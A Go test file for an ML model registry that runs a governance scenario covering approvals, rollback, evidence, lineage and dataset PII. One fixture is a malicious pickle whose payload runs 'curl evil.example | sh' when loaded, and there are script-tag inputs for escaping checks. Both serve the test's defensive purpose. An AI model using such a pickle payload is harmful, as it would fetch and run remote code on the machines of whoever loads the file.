package report

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"log/slog"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/mlsec/mlsec/audit"
	"github.com/mlsec/mlsec/evidence"
	"github.com/mlsec/mlsec/policy"
	"github.com/mlsec/mlsec/registry"
	"github.com/mlsec/mlsec/registry/blob"
	"github.com/mlsec/mlsec/registry/client"
	"github.com/mlsec/mlsec/registry/policyeval"
	"github.com/mlsec/mlsec/registry/server"
	"github.com/mlsec/mlsec/registry/store"
	"github.com/mlsec/mlsec/registry/worker"
)

// testServer is what 'mlsec serve' assembles: SQLite, a file blob store,
// the Merkle audit log, the policy engine (default bundle) and the
// analysis worker, behind the real HTTP handler on loopback.
type testServer struct {
	url    string
	pool   *worker.Pool
	tokens map[string]string // principal -> secret
}

func newTestServer(t *testing.T) *testServer {
	t.Helper()
	ctx := t.Context()
	dir := t.TempDir()
	db, err := store.Open(ctx, filepath.Join(dir, "registry.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	bs, err := blob.Open(ctx, filepath.Join(dir, "blobs"), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { bs.Close() })
	skey, _, err := audit.GenerateKey("report.test/log")
	if err != nil {
		t.Fatal(err)
	}
	signer, err := audit.NewSigner(skey)
	if err != nil {
		t.Fatal(err)
	}
	// The toy models are not signed by the server and have no model card,
	// as in the governance end-to-end test (docs/governance.md).
	data := filepath.Join(dir, "policy-data.json")
	os.WriteFile(data, []byte(`{"mlsec": {"disabled_rules": ["MLSEC-SIG-001", "MLSEC-BOM-002", "MLSEC-BOM-003", "MLSEC-BOM-004"]}}`), 0o600)
	eng, err := policyeval.New(ctx, policy.Options{DataFiles: []string{data}})
	if err != nil {
		t.Fatal(err)
	}
	svc := registry.NewService(db, registry.WithAuditor(registry.NewMerkleAuditor(signer)), registry.WithPolicy(eng))
	log := slog.New(slog.DiscardHandler)
	srv := httptest.NewServer(server.New(server.Config{Service: svc, Blobs: bs, Logger: log}))
	t.Cleanup(srv.Close)
	admin, _, err := svc.Bootstrap(ctx)
	if err != nil {
		t.Fatal(err)
	}
	adm, _ := svc.Authenticate(ctx, admin)
	ts := &testServer{url: srv.URL, tokens: map[string]string{"admin": admin},
		pool: worker.New(worker.Config{Service: svc, Blobs: bs, Logger: log, Workers: 1, TempDir: t.TempDir()})}
	for name, role := range map[string]registry.Role{"alice": registry.RoleMaintainer, "bob": registry.RoleReviewer,
		"carol": registry.RoleMaintainer, "viewer": registry.RoleReviewer, "auditor": registry.RoleAuditor} {
		_, sec, err := svc.CreateToken(ctx, adm, registry.Token{Name: name, Role: role})
		if err != nil {
			t.Fatal(err)
		}
		ts.tokens[name] = sec
	}
	return ts
}

func (ts *testServer) client(t *testing.T, who string) *client.Client {
	t.Helper()
	c, err := client.New(ts.url, ts.tokens[who])
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// push registers a one-file version and runs the server's analysis of it.
func (ts *testServer) push(t *testing.T, c *client.Client, model, content string) registry.Version {
	t.Helper()
	return ts.pushFile(t, c, model, "model.dat", content)
}

// pushFile is push with the file's name.
func (ts *testServer) pushFile(t *testing.T, c *client.Client, model, path, content string) registry.Version {
	t.Helper()
	ctx := t.Context()
	sum := sha256.Sum256([]byte(content))
	sha := hex.EncodeToString(sum[:])
	v, _, err := c.CreateVersion(ctx, model, registry.NewVersion{Artifacts: []registry.Artifact{{Path: path, Size: int64(len(content)), SHA256: sha}}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.PutBlob(ctx, sha, int64(len(content)), bytes.NewReader([]byte(content))); err != nil {
		t.Fatal(err)
	}
	fv, err := c.FinalizeVersion(ctx, model, v.Number)
	if err != nil {
		t.Fatal(err)
	}
	for {
		ran, err := ts.pool.RunOne(ctx, "test")
		if err != nil {
			t.Fatal(err)
		}
		if !ran {
			break
		}
	}
	return fv.Version
}

// addEvidence posts records of the given types and results for v.
func addEvidence(t *testing.T, c *client.Client, v registry.Version, recs map[string]any) {
	t.Helper()
	var all []evidence.Record
	for _, typ := range []string{evidence.TypeSignature, evidence.TypeBOM, evidence.TypeFairness, evidence.TypeRobustness, evidence.TypeDrift} {
		res, ok := recs[typ]
		if !ok {
			continue
		}
		r, err := evidence.New(typ, evidence.NewSubject(v.Model, v.Digest), "1.0", time.Now().Add(time.Second), res)
		if err != nil {
			t.Fatal(err)
		}
		if typ == evidence.TypeFairness || typ == evidence.TypeRobustness {
			r.Producer = evidence.Producer{Tool: "evalkit", Version: "2.1"}
		}
		all = append(all, r)
	}
	raw, _ := json.Marshal(all)
	if _, err := c.AddEvidence(t.Context(), v.Model, v.Number, bytes.NewReader(raw), int64(len(raw))); err != nil {
		t.Fatal(err)
	}
}

func goodEvidence(v registry.Version) map[string]any {
	return map[string]any{
		evidence.TypeSignature: evidence.SignatureResult{Verified: true, Status: evidence.StatusVerified, Method: "key", KeyID: "abc", RootDigest: v.Digest, Failures: []string{}},
		evidence.TypeBOM: evidence.BOMResult{CompletenessScore: 90, MissingFields: []string{}, HasLicense: true, Licenses: []string{"Apache-2.0"},
			Datasets: []string{"loans-2025"}, Format: "CycloneDX", SpecVersion: "1.6"},
		evidence.TypeFairness:   map[string]any{"metrics": []map[string]any{{"name": "demographic_parity", "value": 0.03, "threshold": 0.1, "passed": true}}, "passed": true},
		evidence.TypeRobustness: map[string]any{"attacks": []map[string]any{{"name": "fgsm", "robust_accuracy": 0.81}}, "passed": true},
	}
}

// must turns a (value, error) call into a value or a test failure:
// must(c.Call(...))(t).
func must[T any](v T, err error) func(t *testing.T) T {
	return func(t *testing.T) T {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
}

// scenario builds the governance story the tests report on: owners, v1
// promoted with bob's approval, v2 promoted, then rolled back to v1 by
// carol; a decision record; v2 failing fairness. It returns the report
// clients' view after each step through check.
func scenario(t *testing.T, ts *testServer, check func(step string)) {
	ctx := t.Context()
	alice, bob, carol := ts.client(t, "alice"), ts.client(t, "bob"), ts.client(t, "carol")
	must(alice.CreateModel(ctx, client.NewModel{Name: "credit-risk", Team: "lending",
		Description: `Scores loan applications <script>alert("x")</script> & more`, Tags: []string{"tabular", "finance"}}))(t)
	// Naming approvers is an admin's (or an approved decision's) change.
	if _, d, err := ts.client(t, "admin").SetOwners(ctx, "credit-risk", registry.GovernancePatch{Owners: map[registry.Responsibility][]string{
		registry.RespTrain: {"alice"}, registry.RespApprove: {"bob"}, registry.RespRollback: {"carol"},
		registry.RespMonitor: {"role:reviewer"}, registry.RespRetire: {"alice"}}}); err != nil || d != nil {
		t.Fatalf("owners: %+v %v", d, err)
	}
	v1 := ts.push(t, alice, "credit-risk", "weights of version one")
	addEvidence(t, alice, v1, goodEvidence(v1))
	must(alice.AddRecord(ctx, "credit-risk", 1, "Excluded applicants under 18", "Minors cannot sign loan contracts; <b>40</b> rows removed."))(t)
	d1 := must(alice.RequestDecision(ctx, "credit-risk", 1, registry.NewRequest{Action: registry.ActionPromote, Stage: registry.StageProduction, Rationale: "Beats the baseline by 4 points of AUC."}))(t)
	if d1.Status != registry.RequestPending {
		t.Fatalf("request 1: %+v", d1)
	}
	check("pending")
	if d := must(bob.Vote(ctx, d1.ID, true, "Reviewed the fairness report."))(t); d.Status != registry.RequestExecuted {
		t.Fatalf("approve 1: %+v", d)
	}
	check("promoted")
	v2 := ts.push(t, alice, "credit-risk", "weights of version two")
	ev := goodEvidence(v2)
	ev[evidence.TypeFairness] = map[string]any{"metrics": []map[string]any{{"name": "equal_opportunity", "value": 0.2, "threshold": 0.1, "passed": false}}}
	ev[evidence.TypeDrift] = map[string]any{"metric": "psi", "value": 0.31, "drifted": true, "threshold": 0.2}
	addEvidence(t, alice, v2, ev)
	d2 := must(alice.RequestDecision(ctx, "credit-risk", 2, registry.NewRequest{Action: registry.ActionPromote, Stage: registry.StageProduction, Rationale: "Retrained on 2026 data."}))(t)
	must(bob.Vote(ctx, d2.ID, true, ""))(t)
	must(carol.Rollback(ctx, "credit-risk", 1, "Version 2 drifted on live traffic."))(t)
	check("rolled back")

	// Lineage: v1 trained on a registered dataset by a run; v2 fine-tuned
	// from v1 on a dataset that is not registered.
	applicants := registerApplicants(t, alice, bob)
	loans := must(alice.CreateDataset(ctx, registry.NewDataset{Name: "loans-2025", Digest: hexSum("loans 2025 rows"), Team: "lending"}))(t)
	for _, e := range []struct {
		n int
		l client.NewLineage
	}{
		{1, client.NewLineage{Kind: registry.TrainedOn, Target: loans.Digest, Commit: "9f1c2e7", Note: "applications 2021-2025"}},
		{1, client.NewLineage{Kind: registry.ProducedBy, Target: "https://ci.example/runs/4711"}},
		{2, client.NewLineage{Kind: registry.TrainedOn, Target: hexSum("loans 2026 rows")}},
		{2, client.NewLineage{Kind: registry.DerivedFrom, Target: v1.Digest, Note: "fine-tuned on 2026 data"}},
		{1, client.NewLineage{Kind: registry.TrainedOn, Target: applicants[0].Digest}},
		{2, client.NewLineage{Kind: registry.TrainedOn, Target: applicants[1].Digest}},
	} {
		must(alice.AddLineage(ctx, "credit-risk", e.n, e.l))(t)
	}
	// v3 is a pickle that would run a command when loaded: the server's
	// scan finds it and the policy denies its promotion.
	v3 := ts.pushFile(t, alice, "credit-risk", "model.pkl", "cos\nsystem\n(S'curl evil.example | sh'\ntR.")
	addEvidence(t, alice, v3, goodEvidence(v3))
	d3 := must(alice.RequestDecision(ctx, "credit-risk", 3, registry.NewRequest{Action: registry.ActionPromote, Stage: registry.StageStaging, Rationale: "Try the new export."}))(t)
	if d3.Status != registry.RequestDenied {
		t.Fatalf("request 3 was not denied: %+v", d3)
	}
	check("denied")
}

// registerApplicants registers two versions of dataset applicants (owner
// bob, confidential, with a PII summary <script> in a column name): bob
// approves the first, the second waits.
func registerApplicants(t *testing.T, alice, bob *client.Client) [2]registry.DatasetVersion {
	t.Helper()
	var out [2]registry.DatasetVersion
	for i, rows := range []string{"applicants 2025", "applicants 2025 with one row changed"} {
		pii := &evidence.DataResult{Rows: 3, Files: 1, Complete: true, Entities: map[string]int64{"EMAIL_ADDRESS": 3},
			Columns: []evidence.DataColumn{{Name: "email", Entities: map[string]int64{"EMAIL_ADDRESS": 3}},
				{Name: "<i>sex</i>", SensitiveAttribute: true, Category: "sex"}}}
		in := registry.NewDatasetVersion{Team: "lending", Owner: "bob", Classification: "confidential", PII: pii,
			Files: []registry.DatasetFile{{Path: "applicants.csv", Size: int64(len(rows)), SHA256: hexSum(rows)}}}
		if i == 1 {
			in.DerivedFrom = "applicants@1"
		}
		out[i] = must(alice.RegisterDatasetVersion(t.Context(), "applicants", in))(t)
	}
	if v := must(bob.VoteDatasetVersion(t.Context(), "applicants", 1, "approve", "Consent recorded."))(t); v.Status != registry.DatasetApproved {
		t.Fatalf("applicants@1: %+v", v)
	}
	return out
}

func hexSum(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}
